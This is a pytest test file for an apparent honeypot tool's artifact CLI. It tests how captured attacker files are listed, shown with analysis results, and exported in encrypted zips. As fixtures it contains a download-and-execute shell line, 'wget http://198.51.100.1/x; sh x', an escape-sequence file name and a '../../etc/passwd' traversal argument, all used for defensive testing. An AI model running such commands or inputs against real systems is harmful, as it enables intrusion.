"""`hermes artifacts`: files by their content, and out of the house only in a box of their own."""

import hashlib
import json
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest
import pyzipper
from typer.testing import CliRunner, Result

from hermes import events
from hermes.analysis.scanner import Scanner
from hermes.analysis.scans import Scans
from hermes.analysis.visits import Visits
from hermes.analysis.work import Analyst
from hermes.cli.artifacts import app
from hermes.config import RecordingConfig, Settings
from hermes.evidence.artifacts import path
from hermes.recording import SessionRecorder
from hermes.server.backend import SessionInfo
from tests.unit.analysis.test_scans import FakeScanner
from tests.unit.store.facts import login, write

Run = Callable[..., Result]
CONTENT, SCRIPT = b"\x7fELF" + b"payload" * 1000, b"wget http://198.51.100.1/x; sh x\n"
FILE, INPUT, GONE = (hashlib.sha256(it).hexdigest() for it in (CONTENT, SCRIPT, b"gone"))


def stored(sha256: str, name: str, source: str, channel: int | None = None) -> events.ArtifactStored:
    return events.ArtifactStored(
        session_id="one", container_id="box", channel=channel, sha256=sha256, sha1="1" * 40, md5="2" * 32, size=7, path=name,
        source=source, known=False,
    )  # fmt: skip


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    settings = Settings(data_dir=tmp_path / "data")
    settings.journal_dir.mkdir(parents=True)
    place = path(settings.artifacts_dir, FILE)
    place.parent.mkdir(parents=True)
    place.write_bytes(CONTENT)
    recorder = SessionRecorder(
        RecordingConfig(), SessionInfo("one", "root", "192.0.2.7", 1), channel=1, kind="exec", output_dir=settings.recordings_dir
    )
    recorder.start()
    recorder.input(SCRIPT)
    recorder.close()
    write(
        settings.journal_path, *login("one"), stored(FILE, "/tmp/\x1b[2Jx", "written"), stored(INPUT, "", "input", channel=1),
        stored(GONE, "/tmp/gone", "left"),
    )  # fmt: skip
    return settings


@pytest.fixture
def run(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HERMES_DATA_DIR", str(settings.data_dir))
    return lambda *arguments: CliRunner().invoke(app, list(arguments))


def parsed(result: Result) -> Any:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_list(run: Run, settings: Settings) -> None:
    found = parsed(run("list", "--json"))
    assert [(it["sha256"], it["kept"]) for it in found] == [
        (GONE, None), (INPUT, "recording"), (FILE, str(path(settings.artifacts_dir, FILE))),
    ]  # fmt: skip
    shown = run("list").stdout
    assert "/tmp/\\x1b[2Jx" in shown
    assert "\x1b" not in shown
    assert "(input of a command)" in shown
    assert "(not kept any more)" in shown
    assert parsed(run("list", "--json", "--session", "two")) == []


def test_show(run: Run) -> None:
    found = parsed(run("show", FILE[:8], "--json"))
    assert (found["sha256"], [it["event"] for it in found["seen"]]) == (FILE, ["artifact.stored"])
    assert FILE in run("show", FILE[:8]).stdout


def test_show_what_the_analysis_found(run: Run, settings: Settings, tmp_path: Path) -> None:
    assert "not looked at yet" in run("show", FILE[:8]).stdout
    assert parsed(run("show", FILE[:8], "--json"))["analysis"] is None
    (tmp_path / FILE).write_bytes(b"evil\x1b[2J")
    (tmp_path / GONE).write_bytes(b"broken")
    settings.index_dir.mkdir()
    analyst = Analyst(
        settings, [Visits(), Scans(cast(Scanner, FakeScanner()), lambda sha256, _: (tmp_path / sha256).open("rb"), rules="r")]
    )
    analyst.open()
    while not analyst.step():
        pass
    analyst.close()
    shown = run("show", FILE[:8]).stdout
    assert "application/x-executable" in shown
    assert "YARA   evil\\x1b[2J" in shown
    assert "\x1b" not in shown
    assert parsed(run("show", FILE[:8], "--json"))["analysis"]["mime"] == "application/x-executable"
    assert "killed: SIGSEGV" in run("show", GONE[:8]).stdout


@pytest.mark.parametrize(("sha256", "content"), [(FILE, CONTENT), (INPUT, SCRIPT)])
def test_export_is_encrypted(run: Run, tmp_path: Path, sha256: str, content: bytes) -> None:
    result = run("export", sha256, "-o", "out.zip")
    assert result.exit_code == 0, result.output
    made = tmp_path / "out.zip"
    assert content[:20] not in made.read_bytes()
    assert stat.S_IMODE(made.stat().st_mode) == 0o600
    with pyzipper.AESZipFile(made) as archive:
        assert archive.namelist() == [sha256]
        with pytest.raises(RuntimeError, match="password"):
            archive.read(sha256)
        assert archive.read(sha256, pwd=b"infected") == content


def test_export_as_it_is_only_when_asked(run: Run, tmp_path: Path) -> None:
    assert run("export", FILE, "--raw", "-o", "sample").exit_code == 0
    assert (tmp_path / "sample").read_bytes() == CONTENT


def test_another_password(run: Run, tmp_path: Path) -> None:
    assert run("export", FILE, "--password", "other").exit_code == 0
    with pyzipper.AESZipFile(tmp_path / f"{FILE}.zip") as archive:
        assert archive.read(FILE, pwd=b"other") == CONTENT


def test_nothing_is_overwritten(run: Run, tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine")
    result = run("export", FILE, "-o", "mine")
    assert result.exit_code == 1
    assert "cannot make mine" in result.stderr
    assert (tmp_path / "mine").read_text() == "mine"


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("show", "zz"), 2, "give a SHA-256"),
        (("show", "0" * 64), 1, "no artifact"),
        (("export", GONE), 1, "not kept"),
        (("export", FILE, "--password", ""), 2, "cannot be empty"),
        (("export", FILE, "-o", "-"), 2, "name a file"),
        (("export", "../../etc/passwd"), 1, "cannot make"),
    ],
)
def test_mistakes(run: Run, tmp_path: Path, arguments: tuple[str, ...], code: int, said: str) -> None:
    before = set(tmp_path.iterdir())
    result = run(*arguments)
    assert (result.exit_code, said in result.stderr) == (code, True), result.output
    assert set(tmp_path.iterdir()) == before
